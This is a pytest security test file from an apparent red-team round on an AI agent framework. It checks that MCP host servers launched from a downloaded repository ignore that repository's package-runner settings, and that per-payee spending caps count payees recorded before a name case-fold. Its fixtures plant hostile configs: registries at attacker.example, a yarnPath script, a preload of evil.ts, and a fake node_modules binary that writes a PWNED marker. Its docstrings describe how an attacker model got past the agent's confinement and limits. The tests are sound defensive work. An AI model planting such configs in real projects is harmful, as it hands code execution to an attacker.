"""rt52c: what rt51c left open (host servers' package runners, payees from before the case fold, requirements files
named otherwise) and new ground (MCP tool servers, Gymnasium envs, money under ``eval``), attacked as an outsider:
a scripted attacker model, a downloaded repository's files, or the person's own ordinary next command. Each attempt
is a test; ``THROUGH_ON_MAIN`` records which got through on 2f7a4027 (checked by running this file against a
``git archive 2f7a4027 src`` tree first on PYTHONPATH).

1. host servers: ``uvx PKG`` (real uv 0.13.9: it ignores the folder's ``uv.toml``/``[tool.uv]``, held); ``sh -c "npx
   PKG"`` ran the repository's ``node_modules/.bin/PKG``; ``yarn``/``pnpm dlx``/``bunx`` (fake programs that read what
   the real ones read: none is installed here) read the folder's ``.yarnrc.yml``, ``.npmrc``, ``bunfig.toml``.
2. money: a ledger's ``payee:Shop`` from before rt51c's case fold kept its own history, so ``per_payee`` counted it
   apart from ``payee:shop``.
3. write-back: a requirements file named otherwise (``deps.txt``, what ``pip install -r`` is given), and the other
   dependency files an install reads its sources from.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

# attempt -> got through on 2f7a4027
THROUGH_ON_MAIN: dict[str, bool] = {}


# -- 1. host servers: every package runner takes nothing from the run's folder -------------------------------------------

def _start_host(tmp_path, monkeypatch, where: Path, command: list[str], env: list[str] | None = None,
                path: str | None = None) -> None:
    """The person's own ``mcp.yaml`` lists ``notes`` under ``host:`` with ``command``; they start a task naming it
    from ``where`` (a downloaded repository)."""
    pytest.importorskip("mcp")
    from macrohard.mcp.client import McpTools
    from macrohard.mcp.placement import place
    from macrohard.types import McpServer

    home = tmp_path / "mhhome"
    home.mkdir(exist_ok=True)
    env = env or []
    (home / "mcp.yaml").write_text(f"host:\n  - name: notes\n    command: {command!r}\n    env: {env!r}\n"
                                   .replace("'", '"'))
    monkeypatch.setenv("MACROHARD_HOME", str(home))
    if path is not None:
        monkeypatch.setenv("PATH", path)
    monkeypatch.chdir(where)
    (server,) = place([McpServer(name="notes", command=command, env=env, tools=["*"], timeout=20)], home=home)
    assert server.host
    tools = McpTools([server], str(where))
    try:
        tools.start()
    finally:
        tools.close()


THROUGH_ON_MAIN["host server `sh -c 'npx PKG'` ran the repo's node_modules/.bin/PKG"] = True
THROUGH_ON_MAIN["host server `bash -c 'cd sub && npx PKG'` ran the repo's node_modules/.bin/PKG"] = True


@pytest.mark.skipif(shutil.which("npx") is None, reason="needs npx")
@pytest.mark.parametrize("shell", ["sh -c 'npx -y rt52c-notes-server'",
                                   "bash -c 'cd sub && npx -y rt52c-notes-server'"])
def test_an_npx_the_host_server_runs_through_a_shell_never_runs_the_folders_package(tmp_path, monkeypatch, shell):
    """rt51c rewrote ``npx PKG`` as the command itself; ``sh -c "npx PKG"`` (how a server with a set-up step is often
    written) was never rewritten: npx ran the repository's ``node_modules/.bin/rt52c-notes-server`` on the host."""
    import shlex

    repo = tmp_path / "repo"
    (repo / "node_modules/.bin").mkdir(parents=True)
    (repo / "sub").mkdir()
    (repo / "package.json").write_text('{"name": "notes-demo", "version": "1.0.0"}\n')
    marker = tmp_path / "PWNED"
    bin_ = repo / "node_modules/.bin/rt52c-notes-server"
    bin_.write_text(f"#!/bin/sh\necho ran on the host > {marker}\n")
    bin_.chmod(0o755)
    _start_host(tmp_path, monkeypatch, repo, shlex.split(shell), env=["npm_config_offline=true"])
    assert not marker.exists()


# fake runners: each prints (to a log) the project files of the current folder and above that the real one reads,
# then "runs" the package; none of yarn, pnpm, bun is installed here
FAKE = r"""#!/bin/sh
d=$PWD
while :; do
  for f in FILES; do [ -e "$d/$f" ] && echo "NAME read $d/$f" >> LOG; done
  [ "$d" = / ] && break
  d=$(dirname "$d")
done
echo "NAME ran $*" >> LOG
"""
RUNNERS = {"yarn": ".yarnrc.yml .yarnrc .npmrc", "pnpm": ".npmrc pnpm-workspace.yaml",
           "bunx": "bunfig.toml .npmrc node_modules/.bin/rt52c-notes-server"}
SETTINGS = {"yarn": (".yarnrc.yml", "yarnPath: ./tools/yarn.cjs\nnpmRegistryServer: http://attacker.example\n"),
            "pnpm": (".npmrc", "registry=http://attacker.example/\n"),
            "bunx": ("bunfig.toml", 'preload = ["./evil.ts"]\n[install]\nregistry = "http://attacker.example/"\n')}
COMMANDS = {"yarn": ["yarn", "dlx", "rt52c-notes-server"], "pnpm": ["pnpm", "dlx", "rt52c-notes-server"],
            "bunx": ["bunx", "rt52c-notes-server"]}
for _name in RUNNERS:
    THROUGH_ON_MAIN[f"host server `{' '.join(COMMANDS[_name])}` read the repo's {SETTINGS[_name][0]}"] = True
    THROUGH_ON_MAIN[f"host server `sh -c '{' '.join(COMMANDS[_name])}'` read the repo's {SETTINGS[_name][0]}"] = True


def _fakes(tmp_path: Path) -> tuple[str, Path]:
    bindir, log = tmp_path / "fakebin", tmp_path / "runner.log"
    bindir.mkdir()
    for name, files in RUNNERS.items():
        (bindir / name).write_text(FAKE.replace("FILES", files).replace("NAME", name).replace("LOG", str(log)))
        (bindir / name).chmod(0o755)
    return f"{bindir}{os.pathsep}{os.environ['PATH']}", log


@pytest.mark.parametrize("shell", [False, True])
@pytest.mark.parametrize("runner", sorted(RUNNERS))
def test_no_package_runner_of_a_host_server_reads_the_folders_settings(tmp_path, monkeypatch, runner, shell):
    """From a repository holding ``.yarnrc.yml`` (``yarnPath``: yarn runs that JavaScript file; its registry),
    ``.npmrc`` (pnpm's registry) or ``bunfig.toml`` (bun's ``preload`` scripts and registry): on main the runner read
    them (the fake's log names the file). Now a runner with no switch to ignore them is refused there, whether the
    server's command is the runner or a shell that runs it."""
    path, log = _fakes(tmp_path)
    repo = tmp_path / "repo"
    repo.mkdir()
    name, text = SETTINGS[runner]
    (repo / name).write_text(text)
    command = COMMANDS[runner] if not shell else ["sh", "-c", " ".join(COMMANDS[runner])]
    _start_host(tmp_path, monkeypatch, repo, command, path=path)
    read = log.read_text() if log.exists() else ""
    assert " read " not in read, read


def test_twin_a_runner_from_a_clean_folder_runs_and_the_persons_home_settings_stay(tmp_path, monkeypatch):
    """From a folder with no project settings the runners run as before (the fake ran); the person's own user
    settings (``~/.npmrc``, ``~/.yarnrc.yml``) are not a project's and do not stop them."""
    path, log = _fakes(tmp_path)
    home = tmp_path / "person"
    (home / "work").mkdir(parents=True)
    (home / ".npmrc").write_text("registry=https://registry.example/\n")
    (home / ".yarnrc.yml").write_text("npmRegistryServer: https://registry.example/\n")
    monkeypatch.setenv("HOME", str(home))
    for runner in sorted(RUNNERS):
        _start_host(tmp_path, monkeypatch, home / "work", COMMANDS[runner], path=path)
    ran = log.read_text()
    assert all(f"{r} ran" in ran for r in RUNNERS), ran
    # the fake itself reads the home's files as the real one would (user settings): only the project's are refused
    assert f"read {home / 'work'}" not in ran


def test_twin_the_shim_keeps_npx_arguments_and_finds_the_real_program(tmp_path):
    from macrohard.mcp import runner_shim

    assert runner_shim.rewrite("npx", "/e", ["-y", "pkg", "."]) == ["--prefix", "/e", "-y", "pkg", "."]
    assert runner_shim.rewrite("npm", "/e", ["run", "x"]) == ["run", "x"]
    assert runner_shim.project_settings("yarn", str(tmp_path), None) is None
    (tmp_path / "package.json").write_text('{"packageManager": "yarn@https://attacker.example/yarn.js"}')
    assert runner_shim.project_settings("yarn", str(tmp_path), None) == str(tmp_path / "package.json")
    assert runner_shim.project_settings("npx", str(tmp_path), None) is None


THROUGH_ON_MAIN["host server `uvx PKG` from a repo with uv.toml / pyproject [tool.uv] index-url (held: uv ignores)"] \
    = False


@pytest.mark.skipif(shutil.which("uvx") is None, reason="needs uv (checked with uv 0.13.9 on PATH)")
@pytest.mark.parametrize("config", ["uv.toml", "pyproject.toml"])
def test_held_uvx_host_server_never_asks_the_folders_index(tmp_path, monkeypatch, config):
    """uv's tool commands read only user- and system-level settings (its documentation; checked with uv 0.13.9):
    the repository's ``index-url`` is never asked, through the host server too (a loopback "attacker index")."""
    import http.server
    import threading

    asked: list[str] = []

    class Index(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    repo = tmp_path / "repo"
    repo.mkdir()
    url = f"http://127.0.0.1:{attacker.server_port}/simple"
    (repo / config).write_text(f'index-url = "{url}"\n' if config == "uv.toml" else
                               f'[project]\nname = "x"\nversion = "0"\n[tool.uv]\nindex-url = "{url}"\n')
    try:
        _start_host(tmp_path, monkeypatch, repo, ["uvx", "rt52c-notes-server"],
                    env=[f"UV_CACHE_DIR={tmp_path / 'uvcache'}", "UV_OFFLINE=0"])
    finally:
        attacker.shutdown()
        attacker.server_close()
    assert asked == []


# -- 2. money: a payee's account from before the case fold ---------------------------------------------------------------

THROUGH_ON_MAIN["per_payee split over payee:Shop (before the fold) and payee:shop"] = True


def _paid_before_the_fold(ledger, monkeypatch, name: str, minor: int) -> None:
    """A payment the code before rt51c recorded: the payee's account under the name as the model spelt it."""
    import macrohard.money.ledger as ledger_mod

    folded = ledger_mod.account_id
    monkeypatch.setattr(ledger_mod, "account_id", lambda kind, n: f"{kind}:{n}" if kind == "payee" else folded(kind, n))
    ledger.open_account("payee", name, "USD")
    ledger.transfer("user:alice", f"payee:{name}", minor, "USD", kind="payment", memo="socks")
    monkeypatch.setattr(ledger_mod, "account_id", folded)


def test_a_payee_paid_before_the_case_fold_counts_toward_per_payee(ledger, tmp_path, monkeypatch):
    """The ledger already holds ``payee:Shop`` with 8 USD paid today (recorded before rt51c folded payee names). The
    attacker now pays ``shop`` 8 with ``per_payee: 10``: on main today's total for ``payee:shop`` read 0, so the 8
    went and one shop had 16 USD that day, past its limit, without a word."""
    from tests.money.conftest import money_guard
    from tests.safety.test_confinement51c import _pays

    _paid_before_the_fold(ledger, monkeypatch, "Shop", 800)
    guard = money_guard(payees=["*"], new_payee="allow", per_payee=10, per_run=100, per_day=100, ask_over=50)
    run, asked = _pays(ledger, tmp_path, ["shop"], guard)
    assert ledger.account("user:alice").available == 10_000 - 800, asked
    assert len(asked) == 1 and "past its limit of 10.00 USD" in asked[0], asked


def test_a_payee_paid_before_the_fold_counts_in_the_ledgers_own_cap(ledger, monkeypatch):
    """The same limit checked again inside the write (``Ledger.transfer(caps=)``, what stops two runs passing it
    together): on main the cap read ``payee:shop`` alone."""
    from macrohard.money.ledger import LimitReached

    _paid_before_the_fold(ledger, monkeypatch, "SHOP", 800)
    import time

    day = int(time.time() // 86400)
    ledger.open_account("payee", "shop", "USD")
    with pytest.raises(LimitReached):
        ledger.transfer("user:alice", "payee:shop", 800, "USD", kind="payment",
                        caps=[("payee:shop", day, 1000, "shop today")])


def test_twin_another_payee_is_not_folded_in(ledger, tmp_path, monkeypatch):
    from tests.money.conftest import money_guard
    from tests.safety.test_confinement51c import _pays

    _paid_before_the_fold(ledger, monkeypatch, "Bakery", 800)
    guard = money_guard(payees=["*"], new_payee="allow", per_payee=10, per_run=100, per_day=100, ask_over=50)
    run, asked = _pays(ledger, tmp_path, ["shop"], guard)
    assert asked == [] and ledger.account("user:alice").available == 10_000 - 1600
    assert ledger.check() == []
